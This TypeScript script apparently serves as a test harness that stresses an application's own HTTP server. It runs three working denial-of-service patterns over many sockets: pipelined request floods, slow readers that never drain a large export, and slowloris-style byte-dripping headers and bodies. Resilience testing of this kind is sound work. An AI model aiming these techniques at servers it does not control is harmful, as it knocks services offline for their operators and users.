import net from 'node:net'

/**
 * A process that attacks a server over many sockets: `node attackers.js <attack> <origin> <sockets> <seconds>`. It sends
 * prepared bytes and counts what it receives, so that the server gets the processor.
 */

const [attack = '', origin = '', sockets = '', seconds = ''] = process.argv.slice(2)
const { hostname, port } = new URL(origin)

const MAP = 'GET /v1/map?nw=-32,31&se=31,-32 HTTP/1.1\r\nHost: a\r\n\r\n'
const EXPORT = 'GET /v2/export/parcels.geojson HTTP/1.1\r\nHost: a\r\n\r\n'
/** As many as one packet of 64 KiB holds. */
const PACKET = MAP.repeat(Math.floor(65_536 / MAP.length))
/** Not that of the normal requests: an address has a limit of connections. */
const ADDRESS = '127.0.0.2'
/** A socket that was cut is opened again after this time. */
const REOPEN_AFTER_MS = 30_000
/** New sockets are spread over this time. */
const OPEN_WITHIN_MS = Math.min(60_000, Number(seconds) * 250)
const WRITE_EVERY_MS = 5_000

const ATTACKS: Readonly<Record<string, (socket: net.Socket, at: number) => void>> = {
  /** A packet of pipelined requests, again and again while the server reads. */
  pipelining: (socket) => {
    socket.resume()
    const send = () => socket.write(PACKET)
    socket.on('drain', send)
    send()
  },
  /** One request for an answer that is larger than the buffers of the operating system, of which nothing is read. */
  'slow-readers': (socket) => {
    socket.pause()
    socket.write(EXPORT)
  },
  /** A byte now and then: of the headers on every second socket, of a body on the others. */
  'slow-writers': (socket, at) => {
    socket.resume()
    socket.write(
      at % 2 === 0
        ? 'GET /v1/parcels/0/0 HTTP/1.1\r\nX-Slow: '
        : 'POST /v1/map HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n\r\n{',
    )
    const writing = setInterval(() => socket.write('x'), WRITE_EVERY_MS)
    socket.once('close', () => clearInterval(writing))
  },
}

let opened = 0
let cut = 0
let isOver = false
const open = new Set<net.Socket>()

function openSocket(at: number): void {
  if (isOver) return
  const socket = net.connect({ port: Number(port), host: hostname, localAddress: ADDRESS })
  opened++
  open.add(socket)
  socket.once('connect', () => ATTACKS[attack]!(socket, at))
  socket.on('error', () => {})
  socket.once('close', () => {
    open.delete(socket)
    cut++
    setTimeout(() => openSocket(at), REOPEN_AFTER_MS).unref()
  })
}

for (let at = 0; at < Number(sockets); at++) {
  setTimeout(() => openSocket(at), (OPEN_WITHIN_MS * at) / Number(sockets))
}
setTimeout(() => {
  isOver = true
  console.log(JSON.stringify({ opened, cut, open: open.size }))
  for (const socket of open) socket.destroy()
  process.exit()
}, Number(seconds) * 1_000)
